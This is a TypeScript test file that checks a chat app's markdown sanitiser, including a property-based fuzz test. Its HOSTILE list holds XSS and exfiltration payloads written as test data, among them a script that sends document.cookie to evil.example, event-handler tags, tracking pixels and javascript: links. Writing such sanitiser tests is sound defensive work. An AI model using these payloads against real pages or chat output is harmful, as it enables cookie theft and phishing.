import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { plain, safeMarkdown } from '../../src/chat/markdown.ts';

const RULE = { hosts: ['help.lumenboard.example'] };

/** What a console makes of it: no renderer of ours sanitises once more. */
const rendered = (markdown: string): string => marked.parse(markdown, { async: false });

/** Tags and addresses that are alive in the HTML, text left out. */
const alive = (html: string) => ({
  tags: [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map(([, tag]) => (tag ?? '').toLowerCase()),
  addresses: [...html.matchAll(/(?:href|src)="([^"]*)"/gi)].map(([, address]) => address ?? ''),
});

const TAGS = new Set(
  'p strong em del code pre a ul ol li blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td br hr'.split(
    ' ',
  ),
);

const isOurs = (address: string): boolean =>
  /^\/(?![/\\])/.test(address) || new URL(address).hostname === 'help.lumenboard.example';

const expectHarmless = (markdown: string): void => {
  const { tags, addresses } = alive(rendered(markdown));
  expect(tags.filter((tag) => !TAGS.has(tag))).toEqual([]);
  expect(addresses.filter((address) => !isOurs(address))).toEqual([]);
};

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.example?"+document.cookie)</script>',
  '![pixel](https://evil.example/p.png?d=84)',
  '![p][1]\n\n[1]: https://evil.example/p.png',
  '[sign in again](https://evil.example/login)',
  '[x](javascript:alert(1)) [y](data:text/html,hi) [z](vbscript:x)',
  '[x](//evil.example) [y](/\\evil.example) [z](https://help.lumenboard.example@evil.example/)',
  'see https://evil.example/?q=1, www.evil.example or me@evil.example <https://evil.example>',
  '[ref]: https://evil.example\n\nread the [ref]',
  '<a href="https://evil.example">ours</a>',
  '| a | b |\n|---|---|\n| <b onclick=x> | [l](https://evil.example) |',
  '> quote <iframe src="https://evil.example"></iframe>',
  '`<img>` and ``` \n<svg onload=x>\n```',
  '[a](https://evil.example "t") [b]( <https://evil.example> )',
  '&lt;img src=x&gt; &#60;script&#62;',
  '[![img](https://evil.example/i.png)](https://evil.example)',
];

describe('what an answer may hold', () => {
  test.each(HOSTILE)('%s is harmless, whoever wrote it', (text) => {
    expectHarmless(safeMarkdown(text, RULE));
    expectHarmless(`why is **${plain(text)}** critical`);
    expectHarmless(safeMarkdown(`- **${plain(text)}**: 84`, RULE));
  });

  test('what is allowed stays: emphasis, lists, tables, our own pages and hosts on the list', () => {
    const text = [
      '# Northwind',
      '**critical**, *84*',
      '- logins fell\n- tickets',
      '| a | b |\n| --- | --- |\n| 1 | 2 |',
      '[case](/v1/cases/case-1) [help](https://help.lumenboard.example/x)',
    ].join('\n\n');
    expect(safeMarkdown(text, RULE)).toBe(text);
  });

  test('any text is harmless', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '[',
        '](',
        ')',
        '<',
        '>',
        '!',
        '`',
        '*',
        '_',
        '\n',
        '\n\n',
        '|',
        '://',
        'https://evil.example',
        '&lt;',
        '\\',
        '- ',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('');
        const safe = safeMarkdown(text, RULE);
        expectHarmless(safe);
        expectHarmless(plain(text));
      }),
      { numRuns: 3000 },
    );
  });
});
